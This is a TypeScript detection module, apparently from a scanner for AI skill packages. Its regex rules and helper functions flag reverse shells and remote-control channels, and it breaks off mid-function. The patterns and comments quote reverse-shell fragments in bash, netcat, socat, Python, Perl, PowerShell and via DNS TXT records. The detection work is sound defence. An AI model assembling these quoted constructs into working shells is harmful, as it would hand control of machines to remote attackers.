import type { AnyRule, PatternRule, RawHit, Segment } from '../rule.types.js';
import { sinkWithSources } from '../analyzers/code-cooccurrence.js';
import { gated, mayMatch, testSegment } from '../analyzers/literal-gates.js';
import { evidenceAround, fileLineOf, lineIndexOf, lineStarts } from '../analyzers/segment-lines.js';
import { patternRuleMaker } from './pattern-rule.js';

const REMEDIATION =
  'Remove the remote shell; a skill must never hand control of the machine to a remote host.';

const reverseShellRule = patternRuleMaker('reverse-shell', REMEDIATION, 'code');

/** Every reverse shell is CRITICAL and runs a command. */
function rs(
  id: string,
  message: string,
  pattern: RegExp,
  hints: string[],
  extra: Partial<PatternRule> = {},
): PatternRule {
  return reverseShellRule(id, 'CRITICAL', message, pattern, hints, { tags: ['exec'], ...extra });
}

/**
 * What opens a connection with nothing attached: `exec N<>` on a descriptor past the standard three
 * (group 1, group 2 the subshell parenthesis before it), or a bare redirect of `:` / `true` / no command.
 */
const PROBE_OPEN =
  /(?:(\([ \t]{0,4})?\bexec[ \t]{1,4}([3-9]|[1-9]\d)[ \t]{0,4}|(?:^|[;&|({`'"]|\b(?:then|do|else))[ \t]{0,4}(?:(?::|true)[ \t]{1,4})?)(?:<>|>|<)[ \t]{0,4}["']?$/;
/** After a bare redirect: stderr discarded, then the end of the command. */
const PROBE_END =
  /^["']?(?:[ \t]{1,4}(?:2>&1|2?>[ \t]{0,4}\/dev\/null|2>&-))*[ \t]{0,4}(?:&&|\|\||;|\)|["'`]|$|\bthen\b)/;
/** After `exec N<>…`: the descriptor closed right away (`&& exec 3>&-`), or the subshell that holds it ends. */
const CLOSES_AFTER = new Map<string, RegExp>();
function closesAfter(fd: string, inSubshell: boolean): RegExp {
  const key = `${fd}${inSubshell ? ')' : ''}`;
  let re = CLOSES_AFTER.get(key);
  if (!re)
    CLOSES_AFTER.set(
      key,
      (re = new RegExp(
        `^["']?(?:[ \\t]{0,4}(?:&&|;)[ \\t]{0,4}exec[ \\t]{1,4}${fd}[<>]&-${inSubshell ? '|[ \\t]{0,4}\\)' : ''})`,
      )),
    );
  return re;
}
/**
 * An interactive shell, a standard stream dup'd onto another descriptor (`0>&1`, `1>&3`), a descriptor
 * past the standard three read or written (`<&5`, `>&5`), or a pipe into a shell: what a reverse shell
 * wires up. `2>&1` and `>&2` are a script's own error output.
 */
const SHELL_WIRING =
  /\b(?:ba|z|da|k)?sh[ \t]{1,4}-\w{0,4}i\b|\b[01][<>]&[ \t]{0,4}\d|[<>]&[ \t]{0,4}(?:[3-9]|\d{2})|\|[ \t]{0,4}(?:(?:\/usr)?\/bin\/)?(?:ba|z|da|k)?sh\b/;
const FD_CLOSE = /\b\d{1,2}[<>]&-/g;
const DEV_TCP_AT = /\/dev\/(?:tcp|udp)\/[^\s;&|()<>]{1,200}/g;
const MAX_PROBE_LINE = 2000;

/**
 * Whether every `/dev/tcp` use on a line only opens a connection and closes it: `: >/dev/tcp/$h/$p`,
 * `exec 3<>/dev/tcp/$h/$p && exec 3>&-`, `(exec 3<>/dev/tcp/$h/$p)`. Nothing is sent, no shell is
 * attached and no descriptor outlives the line: a port reachability check.
 */
function connectOnly(lineText: string): boolean {
  const line = lineText.slice(0, MAX_PROBE_LINE);
  if (SHELL_WIRING.test(line.replace(FD_CLOSE, ' '))) return false;
  let seen = 0;
  for (const m of line.matchAll(DEV_TCP_AT)) {
    const open = PROBE_OPEN.exec(line.slice(Math.max(0, m.index - 40), m.index));
    const rest = line.slice(m.index + m[0].length);
    if (!open || !(open[2] ? closesAfter(open[2], !!open[1]) : PROBE_END).test(rest)) return false;
    seen++;
  }
  return seen > 0;
}

const PATTERNS: PatternRule[] = [
  rs(
    'SG-RSHELL-001',
    'Redirects a shell to a network socket (/dev/tcp reverse shell)',
    /\/dev\/(?:tcp|udp)\/[\w.${}'"-]{1,120}\/['"]{0,2}(?:\d+|\$\{?\w+\}?)|\b(?:ba)?sh\s+-i\s*[>&]+/g,
    ['/dev/tcp', '/dev/udp', '-i'],
    {
      // Host and port may be spliced into a single-quoted script (`/dev/tcp/'"$HOST"'/'"$PORT"'`).
      starts: ['/dev/tcp', '/dev/udp', 'bash', 'sh'],
      // A placeholder host (ATTACKER_IP, <lhost>, an ellipsis) cannot connect anywhere: a write-up or a
      // lesson. The loopback host is this machine: a local port probe (`exec 3<>/dev/tcp/127.0.0.1/$port`).
      // A connection only opened and closed (`exec 3<>/dev/tcp/$h/$p && exec 3>&-`, `: >/dev/tcp/$h/$p`)
      // is a reachability probe: no shell, no stream and no descriptor of the script is wired to it.
      adjust: ({ lineText, segment }) =>
        /\/dev\/(?:tcp|udp)\/['"]{0,2}(?:127(?:\.\d{1,3}){3}|localhost)['"]{0,2}\//.test(lineText)
          ? null
          : /\/dev\/(?:tcp|udp)\/(?:(?:[A-Z][A-Z_]*|<[^>\s]+>)\/|…|\.{3})/.test(lineText)
            ? 'MEDIUM'
            : segment.depth === 0 && connectOnly(lineText)
              ? 'LOW'
              : 'CRITICAL',
    },
  ),
  rs(
    'SG-RSHELL-002',
    'Netcat/socat bound to a shell (bind or reverse shell)',
    /\b(?:nc|ncat|netcat)\b[^\n|;]{0,120}\s-(?:e|c)\s*['"]?\S*(?:sh|bash|cmd|powershell)\b|\b(?:nc|ncat|netcat)\s+(?:-\w+\s+)*-l\w*\b[^\n|;]{0,80}\|\s*(?:\/bin\/)?(?:ba)?sh\b|\bmkfifo\b[^\n]{0,200}\b(?:nc|ncat|netcat)\b|\bsocat\b[^\n]{0,200}\bexec:['"]?[^\s'"]*sh\b|\b(?:ba)?sh\b[^\n|]{0,40}\|\s*(?:nc|ncat|netcat)\s+[\w.-]+\s+\d+/gi,
    ['nc', 'netcat', 'ncat', 'socat', 'mkfifo'],
    { starts: ['nc', 'netcat', 'mkfifo', 'socat', 'bash', 'sh'] },
  ),
  rs(
    'SG-RSHELL-003',
    'Python socket wired to a shell (dup2 / pty.spawn reverse shell)',
    /\bos\.dup2\s*\(\s*\w+\.fileno\(\)|\bpty\.spawn\s*\(\s*\[?\s*["'](?:\/bin\/)?(?:ba|z)?sh\b|socket\.socket\([^\n]{0,200}(?:subprocess|os\.system|pty)|\bos\.exec[lv]p?e?\s*\(\s*["'](?:\/bin\/)?(?:ba|z)?sh["']\s*,[^)\n]{0,60}["']-i["']/g,
    ['dup2', 'pty.spawn', 'socket.socket', 'os.exec'],
  ),
  rs(
    'SG-RSHELL-004',
    'A socket piped into a shell (Node, Perl, Ruby, PHP, Rust, C#, PowerShell)',
    /\b(?:TcpStream::connect\w*|new\s+TcpClient\s*\()[\s\S]{0,600}?\b(?:Command::new|ProcessStartInfo)\s*\(\s*"(?:\/bin\/)?(?:(?:ba|z)?sh|cmd(?:\.exe)?|powershell(?:\.exe)?)"|\bnet\.(?:Socket|connect|createConnection)\b[\s\S]{0,300}?\b(?:spawn|exec)\s*\(\s*[^,\n]{0,80}?["'](?:\/bin\/)?(?:(?:ba|z)?sh|cmd\.exe|powershell(?:\.exe)?)["']|\bfsockopen\s*\([^\n]{0,200}(?:exec|system|shell_exec|proc_open)|\bstream_socket_client\s*\([^\n]{0,200}(?:exec|system|shell_exec|proc_open)|\bproc_open\s*\([^;\n]{0,120}?,\s*(?:\[|array\s*\()\s*0\s*=>\s*(?<phpStream>\$\w{1,40})\s*,\s*1\s*=>\s*\k<phpStream>\s*[,\])]|\bTCPSocket\.(?:new|open)\b[^\n]{0,200}(?:exec|spawn|system)|\bperl\b[^\n]{0,40}-e[^\n]{0,300}\bsocket\b[^\n]{0,300}\bexec\b|New-Object\s+(?:System\.)?Net\.Sockets\.TCPClient/gi,
    ['net.', 'fsockopen', 'stream_socket_client', 'proc_open', 'tcpsocket', 'perl', 'tcpclient', 'tcpstream'],
  ),
];

/** A client socket, data read from it, and a command run from a variable: remote control. */
/**
 * An outbound client socket: Python, Node, Ruby, Go; Elixir/Erlang (`:gen_tcp.connect`, `ssl:connect`),
 * Lua (`socket.tcp()`, `socket.connect(h, p)`), PHP (`fsockopen`, `stream_socket_client`, `socket_connect`),
 * Tcl (`[socket $host 8443]`, `[socket -async host port]`; not a server's `socket -server`).
 */
const SOCKET_OPEN = gated(
  /\[socket\s+(?!-server\b)(?:-\w{1,12}\s+){0,3}[$\w"{]|\bsocket\.(?:create_connection|socket|tcp\d?|connect\d?)\s*\(|\bnet\.(?:connect|createConnection)\s*\(|\bnew\s+net\.Socket\b|\bTCPSocket\.(?:new|open)\b|\bwebsocket\.create_connection\s*\(|\b(?:net|tls)\.Dial(?:Timeout|TCP)?\s*\(|\bSocket\.tcp\s*\(|(?::|\b)(?:gen_tcp|ssl)[.:]connect\s*\(|\b(?:p?fsockopen|stream_socket_client|socket_connect)\s*\(/,
);
/**
 * Data read from it: `recv` (also `:gen_tcp.recv` / `gen_tcp:recv`), an Erlang active-mode message
 * (`{:tcp, sock, data}`), Lua's `sock:receive()`, PHP's `fgets($s)` / `fread($s, n)` / `socket_read`,
 * Tcl's `gets $s line` / `[read $s]`.
 */
const SOCKET_READ = gated(
  /\bgets\s+\$\w{1,40}\s+\w|\[(?:gets|read)\s+\$\w|[.:]recv\s*\(|\.on\(\s*["']data["']|\.gets\b|\.readline\s*\(|\.pipe\(\s*[\w.]+\.stdin\s*\)|\.Stdin\s*[,=]|\{\s*:?tcp\s*,\s*\w+\s*,\s*\w+\s*\}|:receive\s*\(|\b(?:fgets|fread|stream_get_line)\s*\(\s*\$|\bsocket_read\s*\(/,
);
/**
 * A command that is a variable, not a literal: the usual process APIs, Lua's `os.execute` / `io.popen`,
 * PHP's `shell_exec($c)` family, Elixir's `System.cmd("sh", ["-c", line])` / `System.shell(line)`,
 * Erlang's `:os.cmd(...)` / `os:cmd(Cmd)` and `open_port({spawn, Cmd}, ...)`, Tcl's
 * `exec /bin/sh -c $line`, `exec {*}$line` and `open "|$line"` / `open |[list sh -c $line]`, Ruby's
 * `IO.popen(cmd, ...)` / `Process.spawn(env, cmd)` and a backtick or `%x()` that starts with `#{cmd}`.
 */
const RUN_COMMAND_VARIABLE = gated(
  /\bexec\s+(?:-\w{1,12}\s+){0,2}(?:(?:\/usr)?\/bin\/)?(?:ba|z|da|k)?sh\s+-c\s+\$\w|\bexec\s+\{\*\}\$\w|\bopen\s+["{]?\|\s{0,4}(?:\$\w|\[list\s+(?:(?:\/usr)?\/bin\/)?(?:ba|z|da|k)?sh\s+-c\s+\$\w)|\b(?:subprocess\.(?:run|call|check_output|check_call|Popen|getoutput|getstatusoutput)|os\.(?:system|popen|execute)|io\.popen|execSync|exec|spawnSync|spawn|system|Open3\.(?:popen[23]e?|capture[23]e?))\s*\(\s*(?!["'`[])[\w.]+|\bexec\.Command\s*\(\s*"(?:\/bin\/)?(?:(?:ba|z)?sh|cmd(?:\.exe)?|powershell(?:\.exe)?)"|\b(?:shell_exec|exec|system|passthru|popen|proc_open|pcntl_exec)\s*\(\s*\$\w+|\bSystem\.cmd\s*\(\s*"(?:\/bin\/)?(?:ba|z)?sh"\s*,\s*\[\s*"-c"\s*,\s*(?!["'])\w+|\bSystem\.(?:cmd|shell)\s*\(\s*(?!["'~])\w+|(?::|\b)os[.:]cmd\s*\(\s*(?!["'~])\w+|\b(?:Port\.open|open_port)\s*\(\s*\{\s*:?spawn\s*,\s*(?!["'~])\w+|\b(?:IO|Kernel|Process)\.(?:popen|spawn|exec)(?:[ \t]{0,4}\([ \t]{0,4}|[ \t]{1,4})(?:\{[^}\n]{0,80}\}[ \t]{0,4},[ \t]{0,4})?@?[a-z_][\w.]{0,60}|`#\{@?[a-z_][\w.]{0,60}\}[^`\n]{0,80}`|%x[({[]#\{@?[a-z_][\w.]{0,60}\}[^)}\]\n]{0,80}[)}\]]/g,
);

/**
 * A process whose terminal is the outbound connection: Go's `cmd.Stdin, cmd.Stdout = conn, conn`
 * (one variable for both streams), or Ruby's PTY child pumped to and from the socket with
 * `IO.copy_stream`. A log shipper copies a command's output out, never the socket into a child.
 */
const SPAWN_PROCESS = gated(/\bexec\.Command(?:Context)?\s*\(/);
const STREAMS_ON_ONE_VARIABLE = gated(
  /\.Stdin\s*,\s*\w+\.Stdout\b[^=\n]{0,40}=\s*(\w+)\s*,\s*\1\b|\.Stdin\s*=\s*(\w+)\s*\n\s*\w+\.Stdout\s*=\s*\2\b/g,
);
const PTY_SPAWN = gated(/\bPTY\.spawn\b/);
const STREAM_PUMP = gated(/\bIO\.copy_stream\s*\(\s*@?\w+\s*,\s*@?\w+\s*\)/g);

/**
 * Python: a child whose stdin is a socket (`Popen(["/bin/bash", "-i"], stdin=s.fileno(), stdout=s.fileno(),
 * stderr=s.fileno())`, `subprocess.call(sh, stdin=conn, stdout=conn)`), or a descriptor taken from a socket
 * duplicated onto the standard streams (`fd = s.fileno()` … `os.dup2(fd, 0)`). A socket is a name bound to
 * `socket.socket(…)`, `create_connection(…)`, `fromfd(…)`, an accepted connection or a wrapped socket; a
 * descriptor is a name bound to its `.fileno()`.
 */
const PY_SOCKET_NAME = gated(
  /(?<![.\w])(\w{1,40})(?:[ \t]{0,4},[ \t]{0,4}\w{1,40}){0,2}[ \t]{0,4}=[ \t]{0,4}(?:socket\.socket|socket\.create_connection|socket\.fromfd|\w{1,40}\.accept|\w{1,40}\.wrap_socket|(?<![.\w])socket|(?<![.\w])create_connection)[ \t]{0,4}\(|\bwith[ \t]{1,4}(?:socket\.)?(?:socket|create_connection)[ \t]{0,4}\([^\n]{0,200}?\)[ \t]{0,4}as[ \t]{1,4}(\w{1,40})/g,
);
const PY_FILENO_NAME = /(?<![.\w])(\w{1,40})[ \t]{0,4}=[ \t]{0,4}(\w{1,40})\.fileno[ \t]{0,4}\([ \t]{0,4}\)/g;
const PY_CHILD_CALL =
  /\b(?:Popen|run|call|check_call|check_output|create_subprocess_(?:exec|shell))[ \t]{0,4}\(/g;
const PY_STREAM_ARG =
  /\b(stdin|stdout|stderr)[ \t]{0,4}=[ \t]{0,4}(\w{1,40})(\.fileno[ \t]{0,4}\([ \t]{0,4}\))?/g;
/** The child is a shell or a command interpreter (a shell by path or name, `shell=True`). */
const PY_SHELL_ARG =
  /["'](?:(?:\/usr)?\/bin\/)?(?:ba|z|da|k|c|tc|fi)?sh(?:\.exe)?["']|["'](?:cmd|powershell|pwsh)(?:\.exe)?["']|\bshell[ \t]{0,4}=[ \t]{0,4}True\b/;
const PY_DUP2 = /\bos\.dup2[ \t]{0,4}\([ \t]{0,4}(\w{1,40})[ \t]{0,4},/g;
const MAX_CALL_ARGS = 600;

/** Names of sockets, and of descriptors taken from them, in a Python segment. */
function pySocketNames(text: string): { sockets: Set<string>; fds: Set<string> } {
  const sockets = new Set<string>();
  for (const m of text.matchAll(PY_SOCKET_NAME)) {
    sockets.add(m[1] ?? m[2]);
    if (sockets.size >= 40) break;
  }
  const fds = new Set<string>();
  if (sockets.size > 0)
    for (const m of text.matchAll(PY_FILENO_NAME)) {
      if (sockets.has(m[2])) fds.add(m[1]);
      if (fds.size >= 40) break;
    }
  return { sockets, fds };
}

/** The argument text of a call whose `(` ends at `from`: up to its closing parenthesis, at most MAX_CALL_ARGS. */
function callArgs(text: string, from: number): string {
  const end = Math.min(text.length, from + MAX_CALL_ARGS);
  let depth = 1;
  for (let k = from; k < end; k++) {
    const c = text.charCodeAt(k);
    if (c === 40 || c === 91 || c === 123) depth++;
    else if ((c === 41 || c === 93 || c === 125) && --depth === 0) return text.slice(from, k);
  }
  return text.slice(from, end);
}

function pySocketStdio(segments: Segment[]): RawHit[] {
  const out: RawHit[] = [];
  for (const seg of segments) {
    if (seg.kind !== 'decoded' && (seg.kind !== 'code' || seg.lang !== 'python')) continue;
    if (!mayMatch(PY_SOCKET_NAME, seg)) continue;
    const text = seg.text;
    const hasCall = text.includes('std');
    const hasDup = text.includes('dup2');
    if (!hasCall && !hasDup) continue;
    const { sockets, fds } = pySocketNames(text);
    if (sockets.size === 0) continue;
    const onSocket = (name: string, fileno: boolean) =>
      fileno ? sockets.has(name) : sockets.has(name) || fds.has(name);
    let at = -1;
    if (hasCall) {
      PY_CHILD_CALL.lastIndex = 0;
      let m: RegExpExecArray | null;
      while (at < 0 && (m = PY_CHILD_CALL.exec(text)) !== null) {
        const from = m.index + m[0].length;
        const args = callArgs(text, from);
        // The next call is searched after these arguments: each character is read once.
        PY_CHILD_CALL.lastIndex = from + args.length;
        const streams = new Set<string>();
        for (const a of args.matchAll(PY_STREAM_ARG)) if (onSocket(a[2], !!a[3])) streams.add(a[1]);
        if (streams.has('stdin') && (streams.has('stdout') || PY_SHELL_ARG.test(args))) at = m.index;
      }
    }
    if (at < 0 && hasDup && fds.size > 0)
      for (const m of text.matchAll(PY_DUP2))
        if (fds.has(m[1])) {
          at = m.index;
          break;
        }
    if (at < 0) continue;
    out.push({
      file: seg.file,
      line: fileLineOf(seg, lineIndexOf(lineStarts(text), at)),
      evidence: evidenceAround(text, at, Math.min(text.length, at + 120)),
      depth: seg.depth,
    });
  }
  return out;
}

/**
 * Perl's long-form reverse shell: a connected socket, the standard streams re-opened onto a handle
 * (`open(STDIN, '<&', $s)`, `open STDOUT, ">&SOCK"`), then a shell exec'd in their place.
 */
// A socket handle first (`connect($s, sockaddr_in(...))`), not a DSN string (`DBI->connect("dbi:...")`).
const PERL_SOCKET_CONNECT = gated(
  /(?<![>\w])connect\s*\(\s*[$*]?\w+\s*,|IO::Socket::(?:INET6?|IP)\s*->\s*new\b/,
);
const PERL_STD_DUP = gated(/\bopen\s*\(?\s*\*?STD(?:IN|OUT|ERR)\s*,\s*["']\s*[+<>]{1,2}\s*&/);
// The shell replaces the process with no script to run (`sh -c "make"` is a wrapper's job).
const PERL_EXEC_SHELL = gated(
  /\bexec\s*(?:\{\s*)?\(?\s*["'](?:\/bin\/)?(?:ba|z|da|k)?sh(?:\s+-i)?["'](?![^;\n]{0,80}["']-c["'])/g,
);

/**
 * Perl's remote-control loop: an outbound client socket (`IO::Socket::INET->new(PeerAddr => …)`,
 * `IO::Socket::SSL`/`IP`, or `connect($s, sockaddr_in(…))`), text read from a handle (`sysread`, `recv`,
 * `<$s>`, `$s->getline`) and a command that is a variable run through `qx{}`, backticks, `system`,
 * `exec` or a `-|` pipe open.
 */
const PERL_CLIENT_SOCKET = gated(
  /\bIO::Socket::(?:INET6?|IP|SSL)\s{0,4}->\s{0,4}new\s{0,4}\([^)]{0,300}?\bPeer(?:Addr|Host|Port)\b|(?<![>\w])connect\s{0,4}\(\s{0,4}[$*]?\w{1,40}\s{0,4},\s{0,4}(?:pack_)?sockaddr_in6?\b/,
);
const PERL_READ = gated(
  /\bsysread\s{0,4}\(?\s{0,4}\$\w|\brecv\s{0,4}\(\s{0,4}\$\w|<\s{0,2}\$\w{1,40}\s{0,2}>|\$\w{1,40}\s{0,4}->\s{0,4}(?:getline|sysread|recv)\b/,
);
const PERL_RUN_VARIABLE = gated(
  /\bqx\s{0,4}[{([/|!]\s{0,4}\$\w|`\s{0,4}\$\w{1,40}[^`\n]{0,80}`|\b(?:system|exec)\s{0,4}\(?\s{0,4}\$\w|\bopen\s{0,4}\(?\s{0,4}(?:my\s{1,4})?[$*]?\w{1,40}\s{0,4},\s{0,4}["']-\|["']\s{0,4},\s{0,4}\$\w/g,
);

/**
 * PowerShell's remote-control loop: a .NET stream off a socket (`$c.GetStream()`, where the client's type
 * name may be assembled at run time: `[type]('System.Net.Sockets.' + 'Tcp' + 'Client')`), a line or a
 * buffer read from it, and that text run as code (`[scriptblock]::Create($line)`, `iex $data`).
 */
const PS_SOCKET = gated(/\.GetStream\s*\(\s*\)|\bNet\.Sockets\b|\bTcpClient\b|\bClientWebSocket\b/i);
const PS_READ = gated(/\.(?:ReadLine|ReadToEnd|Read|ReceiveAsync)\s*\(/i);
/** The code run is a variable (or a line read in place); a literal script block is the author's own code. */
const PS_RUN_VARIABLE = gated(
  /\[scriptblock\]\s*::\s*Create\s*\(\s*\$\w{1,40}(?:\.ReadLine\s*\(\s*\))?|\b(?:Invoke-Expression|iex)(?:\s+(?:-Command\s+)?\(?|\s*\()\s*\$\w{1,40}(?:\.ReadLine\s*\(\s*\))?|(?:\b(?:Invoke-Expression|iex)|\[scriptblock\]\s*::\s*Create)\s*\(?\s*\(?\s*\[(?:System\.)?Text\.Encoding\]\s*::\s*\w{1,20}\s*\.\s*GetString\s*\(|\.InvokeScript\s*\(\s*\$\w{1,40}|\bInvoke-Command\s+-ScriptBlock\s+\$\w{1,40}/gi,
);

/** A read: a line or the whole stream, or bytes decoded by `GetString`. */
const PS_READ_OP = /\.(?:ReadLine|ReadToEnd)\s*\(|\bGetString\s*\(/gi;
const PS_ASSIGNED = /\$(\w{1,40})\s*\+?=(?!=)/g;

/** Variables a read is assigned to: the last assignment before each read on its line (within 200 characters). */
function psReadNames(text: string): Set<string> {
  const names = new Set<string>();
  for (const m of text.matchAll(PS_READ_OP)) {
    const window = text.slice(Math.max(0, m.index - 200), m.index);
    const assigned = [...window.slice(window.lastIndexOf('\n') + 1).matchAll(PS_ASSIGNED)].pop();
    if (assigned) names.add(assigned[1].toLowerCase());
    if (names.size >= 20) break;
  }
  return names;
}

/** The code run is what was read: a line read in place, decoded bytes, or a variable assigned either. */
function psRunsReadText(): (match: string, seg: Segment) => boolean {
  const readNames = new Map<Segment, Set<string>>();
  return (match, seg) => {
    if (/\.ReadLine\s*\(|GetString\s*\($/i.test(match)) return true;
    const name = /\$(\w{1,40})\s*$/.exec(match)?.[1];
    if (!name) return false;
    let names = readNames.get(seg);
    if (!names) {
      names = psReadNames(seg.text);
      readNames.set(seg, names);
    }
    return names.has(name.toLowerCase());
  };
}

/**
 * libuv from Lua (Neovim's `vim.uv` / `vim.loop`, luv): a TCP handle, and a child spawned with pipes as
 * its stdio, whose stdin pipe is fed what the socket reads (`tcp:read_start(function(_, d) i:write(d) end)`).
 */
const LUV_TCP = /\b(?:new_tcp|tcp_connect)\s*\(/;
const LUV_SPAWN_STDIO = /\bspawn\s*\([\s\S]{0,300}?\bstdio\s*=\s*\{/;
const LUV_PUMP =
  /\b(\w{1,40}):read_start\s*\(\s*function\s*\([^)\n]{0,40}\)[\s\S]{0,200}?\b(\w{1,40}):write\s*\(/g;
const STDIO_TABLE = /\bstdio\s*=\s*\{([^}\n]{0,200})\}/g;

/** The pump reads a handle that is not a child's stdio and writes into one that is. */
function luvPumpsIntoChild(match: string, seg: Segment): boolean {
  const m = /^(\w+):read_start[\s\S]*\b(\w+):write\s*\($/.exec(match);
  if (!m || m[1] === m[2]) return false;
  const stdio = new Set<string>();
  for (const t of seg.text.matchAll(STDIO_TABLE)) for (const n of t[1].match(/\w+/g) ?? []) stdio.add(n);
  return stdio.has(m[2]) && !stdio.has(m[1]);
}

/** What the socket read (the callback's data parameter) run as a command: `io.popen(data)`, `vim.fn.system(chunk)`. */
const LUV_RUN_READ =
  /:read_start\s*\(\s*function\s*\(\s*\w{0,20}\s*,\s*(\w{1,20})\s*\)[\s\S]{0,300}?\b(?:io\.popen|os\.execute|vim\.fn\.system|vim\.system|vim\.fn\.jobstart|\w{1,20}\.spawn)\s*\(\s*\{?\s*\1\b/g;

/**
 * socat with its addresses held in shell variables (`b=exec:'/bin/sh -li',pty` … `a=openssl-connect:$R:8443`
 * … `socat "$b" "$a"`): the one-line form is SG-RSHELL-002; split over lines it is the same shell. An
 * EXEC:/SYSTEM: address that runs a shell, an outbound or listening network address, and a socat
 * invocation that takes a variable, all in one script.
 */
const SOCAT_SHELL_ADDRESS = gated(
  /\b(?:exec|system):\s{0,2}['"]?[^\s'",]{0,60}?\b(?:(?:ba|z|da|k|c)?sh|cmd(?:\.exe)?|powershell(?:\.exe)?|pwsh)\b/i,
);
const SOCAT_NET_ADDRESS = gated(
  /\b(?:openssl(?:-connect)?|ssl|tcp[46]?(?:-connect)?|udp[46]?(?:-connect)?|sctp(?:-connect)?):\s{0,2}[\w.${}-]{1,253}:\s{0,2}(?:\d{1,5}|\$\{?\w{1,40}\}?)|\b(?:openssl|tcp[46]?|udp[46]?|ssl)-listen:\s{0,2}\d{1,5}/i,
);
const SOCAT_VARIABLE_CALL = gated(/\bsocat\b[^\n;|&]{0,200}?["']?\$\{?\w{1,40}\}?/gi);

/**
 * DNS TXT records used as a command channel: a TXT lookup (PowerShell `Resolve-DnsName -Type TXT`,
 * `dig … TXT`, `nslookup -q=txt`, `host -t txt`, Python dnspython, Node `resolveTxt`, Go `LookupTXT`,
 * Ruby `Resolv`) and code or a command run from a variable in the same script, or the lookup piped
 * straight into a shell. Mail and domain checks (SPF, DKIM, DMARC, verification tokens) read TXT
 * records too, but never run what they read.
 */
const DNS_TXT_LOOKUP = gated(
  /\bResolve-DnsName\b[^\n]{0,200}?-(?:Type|QueryType)\s{1,4}['"]?TXT\b|\b(?:dig|kdig|drill)\b[^\n|;]{0,120}?\btxt\b|\bnslookup\b[^\n|;]{0,120}?-(?:q|query|type|querytype)=txt\b|\bhost\s{1,4}-t\s{0,4}txt\b|\bresolveTxt\b|\bLookupTXT\b|\b(?:resolver|dns\.resolver)\.(?:resolve|query)\s{0,4}\([^)\n]{0,200}?["']TXT["']|Resolv::DNS::Resource::IN::TXT/i,
);
/** Python/JS/Go/Ruby: eval/exec of a variable (the process APIs are RUN_COMMAND_VARIABLE). */
const EVAL_VARIABLE = gated(/(?<![.\w$])(?:eval|exec)\s{0,4}\(\s{0,4}(?!["'`\d)])[\w.$]{1,60}/g);
/** Shell: the lookup's output piped into a shell, or eval'd / run with `sh -c` through a substitution. */
const DNS_TXT_TO_SHELL = gated(
  /\b(?:dig|kdig|drill|nslookup|host)\b[^\n]{0,200}?\|\s{0,4}(?:[^\n|]{0,80}\|\s{0,4}){0,3}(?:(?:\/usr)?\/bin\/)?(?:(?:ba|z|da|k)?sh|iex|Invoke-Expression|python[0-9.]{0,4}|perl|ruby|node)\b|\b(?:eval|(?:ba|z|da|k)?sh\s{1,4}-c)\s{1,4}["']?\$\(\s{0,4}(?:dig|kdig|drill|nslookup|host)\b/gi,
);
/** PowerShell: the lookup's strings piped into `iex`. */
const PS_PIPE_IEX = gated(/\|\s{0,4}(?:iex|Invoke-Expression)\b/gi);

/**
 * A shell joined to a network client through a named pipe (`mkfifo f; bash -i <f 2>&1 | openssl
 * s_client -connect h:443 >f`, `nc h p <f | sh >f`): one pipeline reads the fifo and writes it back,
 * the script makes that fifo, starts an interactive or stdin-fed shell and runs a network client
 * (openssl s_client, ncat, nc, socat, telnet, gnutls-cli). The pieces may sit in functions or
 * variables (`$SH <"$F" | $NET >"$F"`); the loop through the fifo is what joins them.
 */
const FIFO_MADE = gated(/\bmkfifo\b|\bmknod\b[^\n;|&]{1,200}\sp\b/);
const NET_CLIENT = gated(
  /\bopenssl\s{1,4}s_client\b|\b(?:ncat|netcat|socat|telnet|gnutls-cli|cryptcat)\b|\bnc\s{1,4}(?:-\w{1,6}\s{1,4}){0,4}["']?[\w.${}:-]{1,253}["']?\s{1,4}["']?(?:\d{1,5}|\$\{?\w{1,40}\}?)\b/,
);
const SHELL_ON_STDIN = gated(
  /\b(?:ba|z|da|k|a)?sh\s{1,4}-i\b|(?:^|[\s;|&(/"'])(?:ba|z|da|k|a)?sh\s{0,4}(?:-\w{1,4}\s{1,4}){0,2}(?:\d?<\s{0,2}["']?[$\w{}./-]|\|)|\|\s{0,4}(?:(?:\/usr)?\/bin\/)?(?:ba|z|da|k|a)?sh\b/m,
);
const MKFIFO_ARGS = /\b(?:mkfifo|mknod)\b((?:[^\n;|&]|\\\n){1,400})/g;
const REDIRECT_IN = /(?:^|[^<\d&])\d?<\s{0,2}(["']?)([^\s"'|;&<>()]{1,200})\1/g;
const REDIRECT_OUT = /(?:^|[^>&\d])\d?>>?\s{0,2}(["']?)([^\s"'|;&<>()]{1,200})\1/g;
const CAT_IN = /\bcat\s{1,4}(["']?)([^\s"'|;&<>()-][^\s"'|;&<>()]{0,199})\1/g;
const MAX_PIPELINE = 4000;
const JOINS_NEXT = /(?:\\|\|)[ \t\r]*$/;
const CONTINUATION = /\\[ \t\r]*$/;

function fifoNames(text: string): Set<string> {
  const names = new Set<string>();
  MKFIFO_ARGS.lastIndex = 0;
  for (let m = MKFIFO_ARGS.exec(text); m !== null && names.size < 40; m = MKFIFO_ARGS.exec(text))
    for (const w of m[1].replace(/\\\n/g, ' ').split(/\s+/))
      if (w && !w.startsWith('-') && w !== 'p' && !/^\d{3,4}$/.test(w))
        names.add(w.replace(/^["']|["']$/g, ''));
  return names;
}

function targets(part: string, re: RegExp): string[] {
  re.lastIndex = 0;
  return Array.from(part.matchAll(re), (m) => m[2]);
}

/** The first pipeline of a shell segment that reads one of the fifos and writes it back. */
function fifoLoop(seg: Segment): RawHit | null {
  const fifos = fifoNames(seg.text);
  if (fifos.size === 0) return null;
  const lines = seg.text.split('\n');
  for (let i = 0; i < lines.length; i++) {
    const start = i;
    const parts = [lines[i]];
    let size = lines[i].length;
    // Continuation lines (`\` at the end) and a pipe at a line's end join the next line.
    while (i + 1 < lines.length && JOINS_NEXT.test(lines[i].slice(-40)) && size < MAX_PIPELINE) {
      parts[parts.length - 1] = parts[parts.length - 1].replace(CONTINUATION, ' ');
      parts.push(lines[++i]);
      size += lines[i].length + 1;
    }
    const logical = parts.join(' ');
    if (!logical.includes('|') || logical.length > MAX_PIPELINE) continue;
    // `a || b` runs b instead of a: not a pipe between them.
    const stages = logical.replace(/\|\|/g, ' ; ').split('|');
    if (stages.length < 2) continue;
    // From the last stage back: the fifos a later stage writes, met by a stage that reads one.
    const written = new Set<string>();
    for (let k = stages.length - 1; k >= 0; k--) {
      if (written.size > 0) {
        const reads = [...targets(stages[k], REDIRECT_IN), ...targets(stages[k], CAT_IN)];
        if (reads.some((t) => written.has(t))) {
          const at = lineStarts(seg.text)[start];
          return {
            file: seg.file,
